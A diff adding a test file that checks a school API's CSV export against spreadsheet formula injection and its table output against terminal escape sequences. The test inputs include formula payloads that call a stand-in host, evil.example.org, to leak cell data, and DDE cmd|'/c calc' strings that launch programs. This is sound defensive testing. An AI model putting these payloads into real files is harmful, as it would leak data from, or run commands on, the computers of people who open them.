@@ -1,0 +1,62 @@
+import { stringify } from 'csv-stringify/sync';
+import { describe, expect, it } from 'vitest';
+import { textTable } from '@/school-api/cli/table';
+import { asText } from '@/school-api/cli/write-records';
+
+/** What makes a spreadsheet calculate, call out or run, however it begins. */
+const formulas = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example.org/?"&A1,"x")',
+  '=cmd|"/c calc"!A1',
+  '=IMPORTXML("https://evil.example.org","//a")',
+  '+1+1',
+  '+cmd|"/c calc"!A1',
+  '-1+1',
+  '-2+3+cmd|"/c calc"!A1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+];
+
+async function exported(words: string): Promise<string> {
+  async function* pages() {
+    yield [{ name: words, message: 'plain' }];
+  }
+  let text = '';
+  for await (const piece of asText(pages(), 'csv', ['name', 'message'])) text += piece;
+  return text;
+}
+
+/** The first cell of the second line, as a spreadsheet reads it. */
+const cellOf = (csv: string) => /\r\n"((?:[^"]|"")*)"/.exec(csv)?.[1]?.replaceAll('""', '"') ?? '';
+
+describe('a visitor’s words in the office’s spreadsheet', () => {
+  it.each(formulas)('are words and nothing to calculate: %j', async (words) => {
+    const cell = cellOf(await exported(words));
+    expect(cell).toBe(`'${words}`);
+  });
+
+  it.each(['"', '","=1+1', '"\r\n"=1+1', '\n=1+1', '",,,\r\n=1+1'])(
+    'stay in their cell: %j',
+    async (words) => {
+      const csv = await exported(words);
+      // Cut where a spreadsheet cuts: two lines of two cells, whatever stands in them.
+      const cells = csv.slice(1).match(/"(?:[^"]|"")*"/g) ?? [];
+      expect(cells).toHaveLength(4);
+    },
+  );
+
+  it.each(formulas)('would be a formula without the defence: %j', (words) => {
+    expect(cellOf(`\r\n${stringify([[words]], { quoted: true })}`)).toBe(words);
+  });
+
+  it('steer no terminal when they are shown there', () => {
+    const odd = 'a\u001b[2J\u001b]0;title\u0007\u202e\rb';
+    const shown = textTable(['name'], [{ name: odd }]);
+    for (const sign of ['\u001b', '\u0007', '\u202e', '\r']) expect(shown).not.toContain(sign);
+  });
+});
